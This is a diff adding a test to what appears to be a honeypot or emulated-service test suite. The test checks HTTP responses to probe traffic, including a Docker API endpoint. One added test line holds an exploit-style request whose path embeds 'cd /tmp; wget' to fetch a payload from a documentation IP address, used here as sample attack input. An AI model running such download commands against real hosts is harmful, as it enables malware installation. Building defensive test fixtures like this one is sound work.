@@ -273,6 +273,12 @@ describe('what is answered', () => {
     assert.equal(talk.ended, true);
   });
 
+  test('HTTP: an exploit with blanks in its target is a request', () => {
+    assert.match(on('http').say('GET /shell?cd /tmp; wget http://192.0.2.1/x HTTP/1.1\r\n\r\n'), /^HTTP\/1\.1 404/);
+    assert.match(on('http').say('GET  HTTP/1.1\r\n\r\n'), /^HTTP\/1\.1 400/);
+    assert.match(on('http').say('\x01\x02 / HTTP/1.1\r\n\r\n'), /^HTTP\/1\.1 400/);
+  });
+
   test('HTTP: Docker’s API on its port', () => {
     const talk = on('http', 2375);
     assert.match(talk.say('GET /version HTTP/1.1\r\n\r\n'), /"ApiVersion":"1\.41"/);
